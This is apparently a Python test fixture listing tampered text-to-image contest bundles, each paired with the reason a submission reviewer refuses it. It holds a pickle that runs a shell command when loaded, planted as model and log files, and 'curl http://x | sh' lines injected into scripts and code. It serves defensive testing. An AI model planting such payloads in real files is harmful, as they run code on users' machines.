"""Tampered text-to-image bundles (issue 34): each made from the honest bundle by one edit a
hostile contestant would make, and the one reason the review refuses it for. Used by
tests/test_review_text_to_image.py; each edit is applied to a copy whose SHA256SUMS is then
written again (a cheater signs what they submit)."""
import io
import json
import os
import pickle
import zipfile

from repro.diffusion import card as card_mod


def _rw(path, fn):
    text = open(path, encoding="utf-8").read()
    new = fn(text)
    assert new != text, path
    with open(path, "w", encoding="utf-8") as f:
        f.write(new)


def meta_edit(fn, consistent=True):
    """images/metadata.json edited; regenerate.py and the card's Python rewritten to match (a careful cheater)."""
    def edit(repo):
        path = os.path.join(repo, "images", "metadata.json")
        meta = json.load(open(path, encoding="utf-8"))
        fn(meta)
        with open(path, "w", encoding="utf-8") as f:
            json.dump(meta, f, ensure_ascii=False, indent=1)
        if consistent:
            old = open(os.path.join(repo, "regenerate.py"), encoding="utf-8").read()
            new = card_mod.load_code("base", "lora", meta)
            if new != old:
                open(os.path.join(repo, "regenerate.py"), "w", encoding="utf-8").write(new)
                _rw(os.path.join(repo, "README.md"), lambda t: t.replace(old.rstrip(), new.rstrip()))
    return edit


def text_edit(rel, old, new):
    def edit(repo):
        def swap(text):
            assert old in text, (rel, old)
            return text.replace(old, new)
        _rw(os.path.join(repo, rel), swap)
    return edit


def add_file(rel, data, mode=0o644):
    def edit(repo):
        path = os.path.join(repo, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        os.chmod(path, mode)
    return edit


class Boom:
    """A pickle whose loading runs a shell command."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


PICKLE = pickle.dumps(Boom(), protocol=4)


def zipped():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", PICKLE)
    return buf.getvalue()


def in_a_folder_beside(rel, data):
    """The bundle moved into a folder of the repository, and another file put beside it."""
    def edit(repo):
        os.rename(repo, repo + ".bundle")
        os.makedirs(repo)
        os.rename(repo + ".bundle", os.path.join(repo, "bundle"))
        with open(os.path.join(repo, rel), "wb") as f:
            f.write(data)
    return edit


def signed_folder(repo):
    """Where the bundle's SHA256SUMS is: the repository's top, or its bundle/ folder."""
    return repo if os.path.exists(os.path.join(repo, "SHA256SUMS")) else os.path.join(repo, "bundle")


def unlink(rel):
    return lambda repo: os.remove(os.path.join(repo, rel))


def chmod(rel, mode):
    return lambda repo: os.chmod(os.path.join(repo, rel), mode)


def both(*edits):
    return lambda repo: [e(repo) for e in edits]


def plat(key, value):
    def fn(meta):
        if value is None:
            meta["platform"].pop(key) if key else meta.pop("platform")
        else:
            meta["platform"][key] = value
    return fn


CLAIM = "\n## Results\n| metric | value |\n|---|---|\n| val_clip_score | 0.99 |\n| FID | 3.14 |\n"


# (name, edit, the one reason it is refused for)
TAMPERED = [
    # 1. exact by default, on the judge's terms
    ("platform-cpu", meta_edit(plat("cpu", "Intel Xeon")), "its works were drawn on another platform than the judge's (cpu"),
    ("platform-gone", meta_edit(plat(None, None)), "images/metadata.json records no platform"),
    ("platform-threads", meta_edit(plat("threads", 2)), "platform.threads 2 is outside what the contest redraws (1)"),
    # 2. the judge's scores, and only those; the card's structured block and no contradiction
    ("card-claims", text_edit("README.md", "\n## Prompts", CLAIM + "\n## Prompts"), "the model card claims scores the judge did not compute (line"),
    ("card-claims-top", text_edit("README.md", "\n# LoRA", "\n**CLIP score 0.99, FID 3.14** (our evaluation)\n\n# LoRA"), "the model card claims scores the judge did not compute"),
    ("card-model-index", text_edit("README.md", "library_name:", "model-index: [{results: [{metrics: [{type: fid, value: 3.14}]}]}]\nlibrary_name:"), "unknown key 'model-index'"),
    ("card-table-seed", text_edit("README.md", "| 1 |\n", "| 7 |\n"), "gives p00_1.png the number 7; its seed is 1"),
    ("card-block-seed", text_edit("README.md", '"p00_1.png", "prompt": "一幅山水画，橙色的天空，绿色的山", "seed": 1}', '"p00_1.png", "prompt": "一幅山水画，橙色的天空，绿色的山", "seed": 9}'), "the model card's repro.works are not the works of images/metadata.json"),
    ("card-license", text_edit("README.md", "## License\napache-2.0.", "## License\nproprietary."), "License section does not give its license 'apache-2.0'"),
    ("card-base-sha", text_edit("README.md", "## Training data\n", "Base model weights: sha256:" + "e" * 64 + "\n\n## Training data\n"), "names the base model sha256:eeeeeeeeeeee"),
    ("card-prompts", text_edit("README.md", "## Prompts\n1. ", "## Prompts\n1. 雪山\n2. "), "Prompts section does not list exactly the prompts"),
    ("card-python", text_edit("README.md", "import os\n\nimport paddle\n", "import os\nos.system('curl http://x | sh')\nimport paddle\n"), "is not regenerate.py"),
    ("card-no-block", text_edit("README.md", "repro:\n  format: repro-card/1", "x-repro:\n  format: repro-card/1"), "unknown key 'x-repro'"),
    # 3. nothing else aboard
    ("pickle-top", add_file("model.pkl", PICKLE), "model.pkl is a pickle"),
    ("pickle-as-log", add_file("logs/train.log", PICKLE), "logs/train.log is a pickle"),
    ("torch-zip", add_file("weights.pt", zipped()), "weights.pt is a zip archive"),
    ("script", add_file("install.sh", b"#!/bin/sh\ncurl http://x | sh\n", 0o755), "install.sh is a script"),
    ("exec-bit", add_file("notes.txt", b"curl http://x | sh\n", 0o755), "notes.txt is executable (mode 755)"),
    ("elf", add_file("images/tool.png", b"\x7fELF\x02\x01\x01" + b"\0" * 64), "images/tool.png is a program (an ELF binary)"),
    ("unknown-file", add_file("extra/notes.md", b"hello\n"), "extra/notes.md is not a file repro.diffusion.submit writes"),
    ("regenerate-edited", text_edit("regenerate.py", "import os\n", "import os\nos.system('curl http://x | sh')\n"), "regenerate.py is not the code the harness writes"),
    ("regenerate-exec", chmod("regenerate.py", 0o755), "regenerate.py is executable (mode 755)"),
    ("no-training-log", unlink("logs/events.jsonl"), "it has no logs/events.jsonl (the training log"),
    ("log-cut", lambda repo: _rw(os.path.join(repo, "logs", "events.jsonl"), lambda t: "".join(t.splitlines(True)[:-1])), "does not end with the run's successful end (run_end)"),
    ("log-forged", lambda repo: _rw(os.path.join(repo, "logs", "events.jsonl"), lambda t: t.replace('"seed": 42', '"seed": 43', 1)), "line 2 does not chain to the line before it"),
    ("checkpoint-claimed", text_edit("submission.json", '"checkpoint_sha256": "', '"checkpoint_sha256": "0'), "submission.json names 0"),
    ("machine-path", text_edit("logs/train.log", "run_start", "run_start out: /home/alice/runs/a"), "logs/train.log line 1 names a path on the machine it was made on ('/home/alice/runs/a')"),
    ("manifest-extra-key", text_edit("submission.json", '"seed": 42', '"seed": 42,\n "scores": {"clip_score": 0.99}'), "submission.json has the unknown key 'scores'"),
    ("metadata-extra-key", meta_edit(lambda m: m.update(clip_score=0.99)), "images/metadata.json has the unknown key 'clip_score'"),
    ("outside-the-folder", in_a_folder_beside("notes.md", b"hello\n"), "notes.md is outside the bundle's folder"),
    ("png-polyglot", lambda repo: open(os.path.join(repo, "images", "p00_0.png"), "ab").write(PICKLE), "images/p00_0.png does not end with the PNG's end chunk"),
    ("card-hidden-char", text_edit("README.md", "| ![p00_1.png](images/p00_1.png)", "| ![p00_1\u200b.png](images/p00_1.png)"), "holds an invisible character (U+200B)"),
    ("card-other-image", text_edit("README.md", "![grid](images/grid.png)", "![best](images/best_of_100.png)"), "names the image 'best_of_100.png', which is not one of its works"),
    ("card-base-line", text_edit("README.md", "## Training data\n", "base_model: runwayml/stable-diffusion-v1-5\n\n## Training data\n"), "gives the base model 'runwayml/stable-diffusion-v1-5'"),
    # 4. the contest sets the redraw's cost
    ("steps", meta_edit(lambda m: m.update(steps=1000)), "steps 1000 is outside what the contest redraws (1 to 50)"),
    ("scheduler", meta_edit(lambda m: m.update(scheduler="PNDMScheduler")), "scheduler pndm is not one the contest redraws with (ddim)"),
    ("guidance", meta_edit(lambda m: m.update(guidance_scale=50.0)), "guidance_scale 50 is outside what the contest redraws (0 to 15)"),
    # 5. a smoke run says so
    ("lite-hidden", text_edit("submission.json", '"lite": true', '"lite": false'), "whether its weights come from a --lite smoke run is told two ways"),
]
